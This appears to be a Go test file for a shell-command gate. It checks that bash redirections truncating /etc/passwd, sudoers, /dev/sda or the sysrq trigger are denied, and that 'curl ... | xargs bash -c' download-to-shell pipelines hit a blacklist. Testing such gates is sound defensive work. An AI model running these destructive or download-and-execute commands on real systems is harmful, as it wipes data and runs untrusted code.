package gate

import (
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
)

// stmtRedirForms are statements whose redirection no simple command
// carries, with F for the target: a bare redirection, an assignment's, and
// compound commands'. Bash opens (and truncates) F for each.
var stmtRedirForms = []string{
	"> F", ">| F", "X=1 > F", "{ :; } > F", "( : ) > F", "if :; then :; fi > F",
	"for i in 1; do :; done > F", "while false; do :; done > F", "[[ -n x ]] > F", "(( 1 )) > F",
}

// TestStmtRedirConfirm runs each form under bash against a scratch file to
// prove bash truncates it, then checks that the same form onto an account
// file, a disk and the sysrq trigger is denied in yolo — and that onto an
// ordinary file it still runs.
func TestStmtRedirConfirm(t *testing.T) {
	bash := requireBash(t)
	p := testPolicy(t, []string{"Bash"}, nil, nil)
	for _, form := range stmtRedirForms {
		f := filepath.Join(t.TempDir(), "victim")
		if err := os.WriteFile(f, []byte("precious\n"), 0o644); err != nil {
			t.Fatal(err)
		}
		cmd := exec.Command(bash, "-c", strings.ReplaceAll(form, "F", f))
		cmd.Env = []string{"PATH=/usr/bin:/bin", "LC_ALL=C"}
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("%q: bash: %v %s", form, err, out)
		}
		if b, _ := os.ReadFile(f); len(b) != 0 {
			t.Fatalf("%q: bash left %q in the file (the form does not truncate here)", form, b)
		}
		for _, target := range []string{"/etc/passwd", "/etc/sudoers.d/x", "/dev/sda", "/proc/sysrq-trigger"} {
			text := strings.ReplaceAll(form, "F", target)
			if d := Decide(Input{Text: text, Policy: p, Mode: ModeYolo, Cwd: "/work"}); d.Action != Deny {
				t.Errorf("%q truncates its target under bash, and yolo gave %s: %s", text, d.Action, d.Reason)
			}
		}
		text := strings.ReplaceAll(form, "F", "out.txt")
		if d := Decide(Input{Text: text, Policy: p, Mode: ModeYolo, Cwd: "/work"}); d.Action != Allow {
			t.Errorf("near miss %q: yolo gave %s: %s", text, d.Action, d.Reason)
		}
	}
}

// TestXargsScriptConfirm: xargs -0 bash -c runs its input as the script,
// and xargs -I{} sh -c {} runs each line — so a download piped there is a
// download run by a shell. Proved with printf standing in for the
// download.
func TestXargsScriptConfirm(t *testing.T) {
	bash := requireBash(t)
	if _, err := exec.LookPath("xargs"); err != nil {
		t.Skip("xargs not installed")
	}
	for _, form := range []string{"printf 'touch M' | xargs -0 bash -c", "printf 'touch M\\n' | xargs -I{} sh -c {}"} {
		dir := t.TempDir()
		cmd := exec.Command(bash, "-c", form)
		cmd.Dir = dir
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("%q: %v %s", form, err, out)
		}
		if _, err := os.Stat(filepath.Join(dir, "M")); err != nil {
			t.Errorf("%q: xargs did not run its input as a script", form)
		}
		text := strings.Replace(form, "printf 'touch M' ", "curl -s http://x ", 1)
		text = strings.Replace(text, "printf 'touch M\\n' ", "curl -s http://x ", 1)
		if e := blHit(text); e == nil || e.Name != "download-to-shell" {
			t.Errorf("%q: blacklist %v, want download-to-shell", text, e)
		}
	}
}
